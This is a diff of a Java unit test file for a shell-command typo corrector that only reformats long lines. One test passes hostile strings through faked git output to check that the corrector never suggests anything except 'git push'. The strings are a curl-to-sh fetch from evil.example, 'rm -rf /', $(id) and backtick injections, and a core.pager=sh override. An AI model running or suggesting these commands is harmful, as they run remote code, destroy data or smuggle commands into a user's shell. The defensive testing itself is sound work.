@@ -78,7 +78,8 @@ class CorrectionsTest {
         Random random = new Random(3);
         for (Case each : cases) {
             for (int i = 0; i < CUTS && !each.output().isEmpty(); i++) {
-                String cut = each.output().substring(0, random.nextInt(each.output().length()));
+                String cut =
+                        each.output().substring(0, random.nextInt(each.output().length()));
                 Corrections.of(each.command(), cut)
                         .filter(Reflection.Suggestion::certain)
                         .ifPresent(told -> assertThat(told.command()).as(cut).isEqualTo(each.told()));
@@ -128,7 +129,12 @@ class CorrectionsTest {
     void what_is_said_can_put_one_plain_word_in_the_place_of_another_and_nothing_else() {
         String said = "git: 'psuh' is not a git command. See 'git --help'.\n\nThe most similar command is\n\t";
         for (String hostile : List.of(
-                "push; curl evil.example|sh\n", "push && rm -rf /\n", "pu$(id)sh\n", "`id`\n", "push\n\tpush --force\n", "-c core.pager=sh\n")) {
+                "push; curl evil.example|sh\n",
+                "push && rm -rf /\n",
+                "pu$(id)sh\n",
+                "`id`\n",
+                "push\n\tpush --force\n",
+                "-c core.pager=sh\n")) {
             String told = told("git psuh", said + hostile);
             assertThat(told == null || told.equals("git push")).as(hostile).isTrue();
         }
@@ -138,7 +144,8 @@ class CorrectionsTest {
     void everything_around_the_failed_command_stays_as_it_was_written() {
         assertThat(told("cd app && git psuh origin 'my branch' && make", PUSH))
                 .isEqualTo("cd app && git push origin 'my branch' && make");
-        assertThat(told("GIT_TRACE=0 timeout 5 git psuh  origin", PUSH)).isEqualTo("GIT_TRACE=0 timeout 5 git push  origin");
+        assertThat(told("GIT_TRACE=0 timeout 5 git psuh  origin", PUSH))
+                .isEqualTo("GIT_TRACE=0 timeout 5 git push  origin");
         assertThat(told("env A=1 git -c x=y psuh \"$BRANCH\"", PUSH)).isEqualTo("env A=1 git -c x=y push \"$BRANCH\"");
         assertThat(told("(cd app && git psuh)", PUSH)).isEqualTo("(cd app && git push)");
         assertThat(told("git psuh 2>/dev/null </dev/null", PUSH)).isEqualTo("git push 2>/dev/null </dev/null");
@@ -162,22 +169,31 @@ class CorrectionsTest {
 
         assertThat(Corrections.of("cat readme.md", "cat: readme.md: No such file or directory", folder))
                 .contains(new Reflection.Suggestion("cat README.md", true));
-        assertThat(Corrections.of("javac src/Aplication.java", "error: file not found: src/Aplication.java\nNo such file or directory", folder))
+        assertThat(Corrections.of(
+                        "javac src/Aplication.java",
+                        "error: file not found: src/Aplication.java\nNo such file or directory",
+                        folder))
                 .contains(new Reflection.Suggestion("javac src/Application.java", false));
         assertThat(Corrections.of("cd src/mian && ls", "bash: cd: src/mian: No such file or directory", folder))
                 .contains(new Reflection.Suggestion("cd src/main && ls", false));
         // Of another folder nothing is known, and of a name that is far nothing follows.
-        assertThat(Corrections.of("cat readme.md", "cat: readme.md: No such file or directory")).isEmpty();
-        assertThat(Corrections.of("cat notes.txt", "cat: notes.txt: No such file or directory", folder)).isEmpty();
+        assertThat(Corrections.of("cat readme.md", "cat: readme.md: No such file or directory"))
+                .isEmpty();
+        assertThat(Corrections.of("cat notes.txt", "cat: notes.txt: No such file or directory", folder))
+                .isEmpty();
         Files.writeString(folder.resolve("README.me"), "");
-        assertThat(Corrections.of("cat READM.md", "cat: READM.md: No such file or directory", folder)).isPresent();
+        assertThat(Corrections.of("cat READM.md", "cat: READM.md: No such file or directory", folder))
+                .isPresent();
         Files.writeString(folder.resolve("READ.md"), "");
-        assertThat(Corrections.of("cat READM.md", "cat: READM.md: No such file or directory", folder)).isEmpty();
+        assertThat(Corrections.of("cat READM.md", "cat: READM.md: No such file or directory", folder))
+                .isEmpty();
     }
 
     @Test
     void a_script_and_a_target_of_the_project_are_put_right() throws IOException {
-        Files.writeString(folder.resolve("package.json"), "{\"name\": \"tset\", \"scripts\": {\"test\": \"x\", \"build:prod\": \"y\"}}");
+        Files.writeString(
+                folder.resolve("package.json"),
+                "{\"name\": \"tset\", \"scripts\": {\"test\": \"x\", \"build:prod\": \"y\"}}");
         Files.writeString(folder.resolve("Makefile"), "VAR := 1\nbuild: a\n\techo\ninstall:\n");
 
         assertThat(Corrections.of("npm run tset", "npm error Missing script: \"tset\"\n", folder))
@@ -192,7 +208,8 @@ class CorrectionsTest {
 
     @Test
     void a_wrapper_of_a_build_is_told_where_it_is_there() throws IOException {
-        assertThat(Corrections.of("gradle build", "bash: gradle: command not found", folder)).isEmpty();
+        assertThat(Corrections.of("gradle build", "bash: gradle: command not found", folder))
+                .isEmpty();
         Path wrapper = Files.writeString(folder.resolve("gradlew"), "#!/bin/sh\n");
         assertThat(wrapper.toFile().setExecutable(true)).isTrue();
         assertThat(Corrections.of("gradle build", "bash: gradle: command not found", folder))
@@ -200,7 +217,9 @@ class CorrectionsTest {
     }
 
     private static String told(String command, String output) {
-        return Corrections.of(command, output).map(Reflection.Suggestion::command).orElse(null);
+        return Corrections.of(command, output)
+                .map(Reflection.Suggestion::command)
+                .orElse(null);
     }
 
     private static List<Case> cases(String name) throws IOException {
